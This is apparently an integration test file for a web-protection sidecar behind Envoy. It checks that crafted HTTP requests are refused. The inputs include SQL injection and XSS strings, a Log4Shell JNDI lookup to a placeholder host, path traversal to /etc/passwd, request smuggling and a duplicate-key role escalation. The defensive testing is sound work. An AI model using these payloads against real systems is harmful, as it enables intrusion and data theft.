// Attacks in the forms that Envoy, too, has a part in: what it passes on is found, and what it cannot pass on whole is refused.
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { after, before, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { type Ingress, startIngress } from '../support/ingress.ts';
import { type SidecarProcess, startSidecarProcess } from '../support/sidecar.ts';

const config = `
version: 1
listen: { grpc: "127.0.0.1:0", admin: "127.0.0.1:0" }
protect: { preset: balanced }
rules:
  - { id: open, match: { path: /open/** }, allow: anonymous }
  - { id: json, match: { path: /json }, allow: anonymous, payload: { content_types: [application/json] } }
`;

let sidecar: SidecarProcess;
let ingress: Ingress;
before(async () => {
  sidecar = await startSidecarProcess({ config });
  ingress = await startIngress({ grpc: sidecar.grpc, bootstrap: 'with-body.yaml' });
});
after(async () => {
  await ingress?.stop();
  await sidecar?.stop();
});

const served = (): number => ingress.api.endpoints.reduce((sum, endpoint) => sum + endpoint.served(), 0);

/** Sends bytes as they are and gives the status, or "through" when they reached the API. */
async function send(head: readonly string[], body: Uint8Array | string = ''): Promise<string> {
  const before = served();
  const text = await new Promise<string>((resolve) => {
    const chunks: Buffer[] = [];
    const socket = connect(ingress.port, '127.0.0.1');
    socket.on('data', (chunk) => chunks.push(chunk));
    // Envoy may reset what it has answered before it read the rest: "close" follows.
    socket.on('error', () => {});
    socket.on('close', () => resolve(Buffer.concat(chunks).toString('latin1')));
    socket.write(Buffer.from([...head, 'Host: localhost', 'Connection: close', '', ''].join('\r\n'), 'latin1'));
    socket.write(body);
  });
  return served() > before ? 'through' : (/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 'nothing');
}

const get = (target: string, ...lines: readonly string[]): Promise<string> =>
  send([`GET ${target} HTTP/1.1`, ...lines]);
const post = (path: string, type: string, body: Uint8Array | string, ...lines: readonly string[]): Promise<string> =>
  send(
    [`POST ${path} HTTP/1.1`, `Content-Type: ${type}`, `Content-Length: ${Buffer.byteLength(body)}`, ...lines],
    body,
  );

test('ordinary requests reach the API', async () => {
  assert.equal(await get("/open/a?q=O'Neil&note=5%20%3C%206"), 'through');
  assert.equal(await post('/json', 'application/json', '{"note":"it\'s <b>fine</b> & done"}'), 'through');
});

test('attacks in targets, headers and cookies are refused, in whatever encoding they come', async () => {
  for (const target of [
    '/open/a?q=%27%20or%20%271%27=%271',
    '/open/a?q=%253Cscript%253Econfirm(1)',
    '/open/a?q=1&q=%27%20or%201=1--',
    '/open/a?q=%EF%BC%9Cscript%EF%BC%9E',
    "/open/1'%20or%20'1'='1",
  ])
    assert.equal(await get(target), '403', target);
  const header = '$'.concat('{jndi:ldap://x.example/a}');
  assert.equal(await get('/open/a', `User-Agent: ${header}`), '403');
  assert.equal(await get('/open/a', 'Cookie: a=<script>confirm(1)</script>'), '403');
  assert.equal(await get('/open/a', 'X-A: fine', "X-A: 1' or '1'='1"), '403');
});

test('paths and lines that are read in two ways reach nobody', async () => {
  for (const target of ['/open/..%2f..%2fetc%2fpasswd', '/open/..;/x', '/open/%c0%ae%c0%ae/x', '/open/%252e%252e/x'])
    assert.match(await get(target), /^4/, target);
  const smuggled = ['POST /open/a HTTP/1.1', 'Content-Length: 4', 'Transfer-Encoding: chunked'];
  assert.equal(await send(smuggled, '0\r\n\r\n'), '400');
  assert.match(
    await send(['POST /open/a HTTP/1.1', 'Transfer-Encoding: chunked, identity'], '0\r\n\r\n'),
    /^(?:400|501)$/,
  );
  assert.match(await send(['TRACE /open/a HTTP/1.1']), /^4/);
});

test('bodies are judged by the very bytes, however they come', async () => {
  const attack = '{"a":"1 union select null,null"}';
  assert.equal(await post('/json', 'application/json', attack), '403');
  const chunks = `${attack.length.toString(16)}\r\n${attack}\r\n0\r\n\r\n`;
  const head = ['POST /json HTTP/1.1', 'Content-Type: application/json', 'Transfer-Encoding: chunked'];
  assert.equal(await send(head, chunks), '403');
  // Not UTF-8: Envoy would put other characters in its place, were it sent as text.
  assert.equal(
    await post('/json', 'application/json', Buffer.from([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x3a, 0x31, 0x7d])),
    '400',
  );
  assert.equal(await post('/json', 'application/json', '{"role":"user","\\u0072ole":"admin"}'), '400');
  assert.equal(await post('/json', 'application/json; charset=utf-16', '{}'), '415');
  assert.equal(await post('/json', 'application/json', gzipSync('{}'), 'Content-Encoding: gzip'), '415');
  assert.equal(await post('/json', 'application/json', '['.repeat(50_000)), '413');
  // Envoy writes this header itself: what a client says of it counts for nothing, and hides nothing.
  assert.equal(await post('/json', 'application/json', '{}', 'X-Envoy-Auth-Partial-Body: true'), 'through');
  assert.equal(await post('/json', 'application/json', attack, 'X-Envoy-Auth-Partial-Body: false'), '403');
  assert.equal(await post('/json', 'application/json', `{"a":"${'x'.repeat(100_000)}' or '1'='1"}`), '413');
});
